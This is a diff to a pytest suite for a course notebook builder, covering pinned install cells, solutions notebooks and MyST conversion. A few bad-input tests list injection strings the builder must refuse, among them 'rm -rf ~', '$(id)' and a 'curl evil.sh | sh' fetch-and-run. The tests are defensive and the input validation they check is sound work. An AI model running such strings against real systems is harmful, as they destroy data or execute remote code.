@@ -58,6 +58,12 @@ print(square(3))
 ```
 
 After the exercise.
+
+```{admonition} Where the data come from
+:class: note
+
+Downloaded once, then *cached*.
+```
 """
 
 
@@ -77,6 +83,7 @@ def project(tmp_path):
         f"      - file: book/{DAY}/chapter_intro\n"
         f"      - file: book/{SLUG}\n        title: 'Tutorial 1: Toy tutorial'\n"
     )
+    (tmp_path / "pyproject.toml").write_text('[project]\nname = "nma-dl"\nversion = "1.2.3"\n')
     shutil.copy(ROOT / "jupytext.toml", tmp_path / "jupytext.toml")
     return tmp_path
 
@@ -94,13 +101,58 @@ def test_repository_urls():
     assert repo.kaggle_url("a/b.ipynb").endswith(
         "src=https://raw.githubusercontent.com/example/course/dev/a/b.ipynb"
     )
-    assert repo.install_spec() == "nma-dl @ git+https://github.com/example/course@dev"
+    # The install cell pins the release tag of the version, not the moving branch.
+    assert repo.install_spec("1.2.3") == "nma-dl @ git+https://github.com/example/course@v1.2.3"
 
 
 @pytest.mark.bad_input
 def test_repository_rejects_non_github_url():
     with pytest.raises(ValueError, match="repository url"):
         _ = nbtools.Repository("ftp://example.org/x").slug
+
+
+@pytest.mark.bad_input
+@pytest.mark.parametrize(
+    "url, branch",
+    [
+        ("https://github.com/example/course; rm -rf ~", "main"),
+        ("https://github.com/example/course$(id)", "main"),
+        ("https://github.com/example", "main"),
+        ("https://github.com/example/course", 'main" && curl evil.sh | sh #'),
+        ("https://github.com/example/course", "main'; import os; '"),
+        ("https://github.com/example/course", "--upgrade"),
+        ("https://github.com/example/course", "a..b"),
+        ("https://github.com/example/course", "{__import__('os')}"),
+    ],
+)
+def test_repository_refuses_what_could_inject_into_the_install_line(url, branch):
+    with pytest.raises(ValueError, match="repository (url|branch)"):
+        nbtools.Repository(url, branch)
+
+
+@pytest.mark.bad_input
+def test_config_with_a_bad_branch_is_refused(project):
+    config = project / "_config.yml"
+    config.write_text(config.read_text().replace("branch: dev", "branch: dev$(whoami)"))
+    with pytest.raises(ValueError, match="repository branch"):
+        nbtools.build(project)
+
+
+@pytest.mark.bad_input
+@pytest.mark.parametrize("version", ["1.2", "1.2.3; ls", "main", ""])
+def test_version_must_be_a_release_number(project, version):
+    (project / "pyproject.toml").write_text(f'[project]\nversion = "{version}"\n')
+    with pytest.raises(ValueError, match="version must look like 1.2.3"):
+        nbtools.load_version(project)
+    with pytest.raises(ValueError, match="version must look like 1.2.3"):
+        nbtools.Repository("https://github.com/a/b").install_spec(version)
+
+
+def test_version_is_read_from_pyproject():
+    import tomllib
+
+    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
+    assert nbtools.load_version() == project["version"]
 
 
 def test_tutorial_slugs_follow_toc(project):
@@ -117,6 +169,7 @@ def test_build_writes_three_views_and_is_idempotent(project):
     assert names == [
         f"book/{SLUG}.md",
         f"notebooks/reference/{SLUG}.ipynb",
+        f"notebooks/solutions/{SLUG}.ipynb",
         f"notebooks/student/{SLUG}.ipynb",
     ]
     snapshot = {p: p.read_bytes() for p in project.rglob("*") if p.is_file()}
@@ -131,13 +184,89 @@ def test_header_sits_under_title_with_badges_and_guarded_install(project):
     assert ref.cells[0].source == "# Tutorial 1: Toy tutorial"
     badges, install = ref.cells[1], ref.cells[2]
     assert badges.metadata["tags"] == ["nma-header"]
-    for view in ("student", "reference"):
+    for view in ("student", "solutions"):
         path = f"example/course/blob/dev/notebooks/{view}/{SLUG}.ipynb"
         assert f"https://colab.research.google.com/github/{path}" in badges.source
+    assert "notebooks/reference" not in badges.source  # the reference stops at a stub in Colab
     assert "Open in Kaggle" in badges.source
     assert install.cell_type == "code"
-    assert 'if importlib.util.find_spec("nma_dl") is None:' in install.source
-    assert "%pip install" in install.source and "torch" not in install.source.split("%pip")[1]
+    assert 'NMA_DL_VERSION = "1.2.3"' in install.source
+    [pip_line] = [line for line in install.source.splitlines() if "%pip" in line]
+    assert pip_line.strip() == (
+        "%pip install --quiet --upgrade 'nma-dl @ git+https://github.com/example/course@v1.2.3'"
+    )
+    for name in ("torch", "numpy", "ipython", "ipykernel", "ipywidgets"):
+        assert name not in pip_line.lower()
+
+
+class _FakeShell:
+    """Stands in for IPython: records %pip lines and 'installs' by putting a module in place."""
+
+    def __init__(self, installs):
+        self.installs = installs  # version the fake pip installs, None for a failing pip
+        self.pip_lines = []
+
+    def run_line_magic(self, name, line):
+        assert name == "pip"
+        self.pip_lines.append(line)
+        if self.installs is not None and sys.modules.get("nma_dl") is None:
+            # As in a kernel: a module already imported stays loaded, at its old version.
+            sys.modules["nma_dl"] = type(sys)("nma_dl")
+            sys.modules["nma_dl"].__version__ = self.installs
+
+
+def _run_install_cell(monkeypatch, installed, loaded, pip_installs):
+    """Execute the generated install cell with a fake pip, metadata and module table."""
+    import importlib.metadata
+
+    from IPython.core.inputtransformer2 import TransformerManager
+
+    repo = nbtools.Repository("https://github.com/example/course", "dev")
+    code = TransformerManager().transform_cell(nbtools.install_source(repo, "1.2.3"))
+
+    def version(name):
+        assert name == "nma-dl"
+        if installed is None:
+            raise importlib.metadata.PackageNotFoundError(name)
+        return installed
+
+    monkeypatch.setattr(importlib.metadata, "version", version)
+    if loaded is None:
+        monkeypatch.setitem(sys.modules, "nma_dl", None)  # `import nma_dl` fails
+    else:
+        fake = type(sys)("nma_dl")
+        fake.__version__ = loaded
+        monkeypatch.setitem(sys.modules, "nma_dl", fake)
+    shell = _FakeShell(pip_installs)
+    exec(compile(code, "<install cell>", "exec"), {"get_ipython": lambda: shell})
+    return shell.pip_lines
+
+
+def test_install_cell_installs_the_release_when_missing(monkeypatch):
+    lines = _run_install_cell(monkeypatch, installed=None, loaded=None, pip_installs="1.2.3")
+    assert lines == [
+        "install --quiet --upgrade 'nma-dl @ git+https://github.com/example/course@v1.2.3'"
+    ]
+
+
+def test_install_cell_upgrades_an_older_release(monkeypatch):
+    lines = _run_install_cell(monkeypatch, installed="1.1.9", loaded=None, pip_installs="1.2.3")
+    assert len(lines) == 1 and "@v1.2.3" in lines[0]
+
+
+@pytest.mark.parametrize("installed", ["1.2.3", "1.3.0", "2.0.0+dev"])
+def test_install_cell_runs_pip_once_per_kernel_only(monkeypatch, installed):
+    assert _run_install_cell(monkeypatch, installed, loaded=installed, pip_installs=None) == []
+
+
+def test_install_cell_stops_with_a_clear_message_when_pip_failed(monkeypatch):
+    with pytest.raises(RuntimeError, match="nma_dl 1.2.3 could not be installed.*pip's message"):
+        _run_install_cell(monkeypatch, installed=None, loaded=None, pip_installs=None)
+
+
+def test_install_cell_asks_for_a_restart_when_an_old_version_is_loaded(monkeypatch):
+    with pytest.raises(RuntimeError, match="kernel has 1.1.0: restart the runtime"):
+        _run_install_cell(monkeypatch, installed="1.1.0", loaded="1.1.0", pip_installs="1.2.3")
 
 
 def test_student_notebook_has_no_solution_code(project):
@@ -155,9 +284,102 @@ def test_student_notebook_has_no_solution_code(project):
     assert f"notebooks/student/{SLUG}.ipynb" in badges and "notebooks/reference" not in badges
 
 
+def test_solutions_notebook_runs_under_a_plain_run_all(project):
+    """Colab ignores raises-exception: the 'with solutions' notebook has no stub left as code."""
+    nbtools.build(project)
+    nb = _read(project / f"notebooks/solutions/{SLUG}.ipynb")
+    code = "\n".join(c.source for c in nb.cells if c.cell_type == "code")
+    assert "NotImplementedError" not in code and "return x * x" in code
+    assert not any("raises-exception" in c.metadata.get("tags", []) for c in nb.cells)
+    [stub] = [c for c in nb.cells if "The exercise as the student" in c.source]
+    assert stub.cell_type == "markdown" and "NotImplementedError" in stub.source
+    assert nbtools.run_all_problems(nb) == []
+
+
+def test_a_cell_that_would_stop_run_all_is_reported(project):
+    source = project / f"book/{SLUG}.md"
+    source.write_text(
+        source.read_text().replace(
+            "```{code-cell} ipython3\nimport math",
+            "```{code-cell} ipython3\n:tags: [raises-exception]\n\nimport math",
+        )
+    )
+    problems = nbtools.stale(project)
+    assert any("tagged raises-exception; a plain Run all stops there" in p for p in problems)
+
+
+def test_directives_become_markdown_in_student_and_solutions_notebooks(project):
+    nbtools.build(project)
+    for view in ("student", "solutions"):
+        text = "\n".join(c.source for c in _read(project / f"notebooks/{view}/{SLUG}.ipynb").cells)
+        assert "{admonition}" not in text and ":class:" not in text
+        assert "> **Where the data come from**\n>\n> Downloaded once, then *cached*." in text
+    # The reference notebook is the exact pair of the source: the book renders the directive.
+    ref = "\n".join(c.source for c in _read(project / f"notebooks/reference/{SLUG}.ipynb").cells)
+    assert "```{admonition} Where the data come from" in ref
+
+
+@pytest.mark.parametrize(
+    "myst, markdown",
+    [
+        ("```{note}\nBody.\n```", "> **Note**\n>\n> Body."),
+        (
+            ":::{warning} Careful\n:class: x\nOne.\n\nTwo.\n:::",
+            "> **Warning: Careful**\n>\n> One.\n>\n> Two.",
+        ),
+        (
+            "````{admonition} Outer\n```{tip}\nIn.\n```\n````",
+            "> **Outer**\n>\n> > **Tip**\n> >\n> > In.",
+        ),
+        ("```{math}\nx^2\n```", "$$\nx^2\n$$"),
+        ("```{code-block} python\nx = 1\n```", "```python\nx = 1\n```"),
+        (
+            "```{dropdown} More\nHidden.\n```",
+            "<details>\n<summary>More</summary>\n\nHidden.\n\n</details>",
+        ),
+        (
+            "Plain *text* with ```python\ncode\n``` stays.",
+            "Plain *text* with ```python\ncode\n``` stays.",
+        ),
+        ("```python\nx = 1\n```\n", "```python\nx = 1\n```\n"),
+    ],
+)
+def test_myst_to_markdown(myst, markdown):
+    assert nbtools.myst_to_markdown(myst) == markdown
+
+
+def test_jupytext_sync_of_an_unchanged_source_changes_nothing(project):
+    """The generated pair is exactly what jupytext writes: a sync, either way, is a no-op."""
+    import os
+    import time
+
+    source = project / f"book/{SLUG}.md"
+    source.write_text(
+        source.read_text().replace(
+            "```{code-cell} ipython3\nimport math",
+            "```{code-cell} ipython3\n---\ntags: [remove-input]\nmystnb:\n  image:\n"
+            "    alt: A figure.\n---\nimport math",
+        )
+    )
+    nbtools.build(project)
+    ref = project / f"notebooks/reference/{SLUG}.ipynb"
+    before = {p: p.read_bytes() for p in (source, ref)}
+    for newer in (source, ref):
+        later = time.time() + 10
+        os.utime(newer, (later, later))
+        subprocess.run(
+            [sys.executable, "-m", "jupytext", "--sync", str(newer.relative_to(project))],
+            cwd=project,
+            check=True,
+            capture_output=True,
+        )
+        assert {p: p.read_bytes() for p in (source, ref)} == before, newer
+    assert "alt: A figure." in source.read_text()
+
+
 def test_generated_notebooks_carry_no_outputs(project):
     nbtools.build(project)
-    for view in ("reference", "student"):
+    for view in ("reference", "student", "solutions"):
         nb = json.loads((project / f"notebooks/{view}/{SLUG}.ipynb").read_text())
         for cell in nb["cells"]:
             assert cell.get("outputs", []) == [] and cell.get("execution_count") is None
@@ -290,7 +512,7 @@ def test_course_layout():
         day, name = slug.split("/")
         assert name.startswith(day.split("_")[0] + "_Tutorial"), slug
         assert (ROOT / "book" / f"{slug}.md").is_file()
-        for folder in (nbtools.REFERENCE_DIR, nbtools.STUDENT_DIR):
+        for folder in (nbtools.REFERENCE_DIR, nbtools.STUDENT_DIR, nbtools.SOLUTIONS_DIR):
             assert (ROOT / folder / f"{slug}.ipynb").is_file()
     days = [slug.split("/")[0] for slug in slugs]
     assert days == sorted(days, key=lambda d: [int(n) for n in re.findall(r"\d+", d)[:2]])
